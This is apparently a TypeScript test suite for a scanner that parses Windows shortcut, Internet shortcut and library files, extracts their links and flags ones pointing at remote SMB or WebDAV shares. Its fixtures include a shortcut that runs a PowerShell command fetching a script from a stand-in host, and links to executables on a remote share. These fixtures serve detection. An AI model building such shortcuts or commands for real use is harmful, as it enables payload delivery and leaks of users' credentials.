import { part } from '../containers.fixture.ts';
import { shortcut } from './shortcut.ts';

const hrefs = async (content: string | Buffer) =>
  (await shortcut.open(part(content))).links.map(({ href }) => href);

/** A Windows shortcut with a share for its target, or a relative path, and arguments. */
function windowsLink(given: { share?: string; relative?: string; arguments?: string }): Buffer {
  const header = Buffer.alloc(76);
  header.writeUInt32LE(76, 0);
  header.writeUInt32LE(0x00021401, 4);
  const texts = [given.relative, given.arguments].filter((one) => one !== undefined);
  header.writeUInt32LE(
    128 |
      (given.share === undefined ? 0 : 2) |
      (given.relative === undefined ? 0 : 8) |
      (given.arguments === undefined ? 0 : 32),
    20,
  );
  const strings = texts.map((text) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(text.length);
    return Buffer.concat([length, Buffer.from(text, 'utf16le')]);
  });
  return Buffer.concat([header, ...(given.share === undefined ? [] : [linkInfo(given.share)]), ...strings]);
}

function linkInfo(share: string): Buffer {
  const network = Buffer.concat([Buffer.alloc(20), Buffer.from(`${share}\u0000`)]);
  network.writeUInt32LE(20, 8);
  const info = Buffer.alloc(28);
  info.writeUInt32LE(28 + network.length + 1, 0);
  info.writeUInt32LE(2, 8);
  info.writeUInt32LE(28, 20);
  info.writeUInt32LE(28 + network.length, 24);
  return Buffer.concat([info, network, Buffer.alloc(1)]);
}

describe('a shortcut', () => {
  it.each([
    [{ name: 'a.library-ms' }, 'x', true],
    [{ name: 'a.URL' }, 'x', true],
    [{ name: 'a.txt' }, '[InternetShortcut]\r\nURL=https://a.example/', true],
    [{ name: 'a.xml' }, '<?xml version="1.0"?><libraryDescription>', true],
    [{ name: 'a.xml' }, '<?xml version="1.0"?><library>', false],
  ])('is %j that begins with %j: %s', (over, content, is) =>
    expect(shortcut.recognises(part(content, over))).toBe(is),
  );

  it('leads to a page', async () => {
    expect(await hrefs('[InternetShortcut]\r\nURL=https://a.example/x\r\n')).toEqual(['https://a.example/x']);
  });

  it('opens a folder of another machine, which is told who opens it', async () => {
    const library = await shortcut.open(
      part(
        '<libraryDescription><simpleLocation><url>\\\\smb.example\\s</url></simpleLocation></libraryDescription>',
      ),
    );
    expect(library.links.map(({ href }) => href)).toEqual(['file://smb.example/s']);
    expect(library.flags).toEqual(['shortcut', 'remote_folder']);
    expect(await hrefs('[InternetShortcut]\r\nURL=file://smb.example/s/a.exe')).toEqual([
      'file://smb.example/s/a.exe',
    ]);
    expect(await hrefs('IconFile=\\\\smb.example@SSL\\DavWWWRoot\\i.ico')).toEqual([
      'file://smb.example/DavWWWRoot/i.ico',
    ]);
  });

  it('may lead to a file of this machine', async () => {
    const own = await shortcut.open(part('[InternetShortcut]\r\nURL=file:///C:/Windows/notepad.exe'));
    expect(own.flags).toEqual(['shortcut']);
  });

  it('of Windows says what it starts', async () => {
    const bytes = windowsLink({
      relative: '..\\powershell.exe',
      arguments: '-c iwr https://a.example/p.ps1',
    });
    const { text, links } = await shortcut.open(part(bytes));
    expect(text).toBe('..\\powershell.exe\n-c iwr https://a.example/p.ps1');
    expect(links.map(({ href }) => href)).toEqual(['https://a.example/p.ps1']);
  });

  it('of Windows may lead to a share', async () => {
    const { text, flags } = await shortcut.open(part(windowsLink({ share: '\\\\smb.example\\s\\x' })));
    expect(text).toBe('\\\\smb.example\\s\\x');
    expect(flags).toEqual(['shortcut', 'remote_folder']);
  });

  it('of Windows that is cut off is damaged', () => {
    const bytes = windowsLink({ relative: 'a' });
    expect(() => shortcut.open(part(bytes.subarray(0, 76)))).toThrow();
  });
});
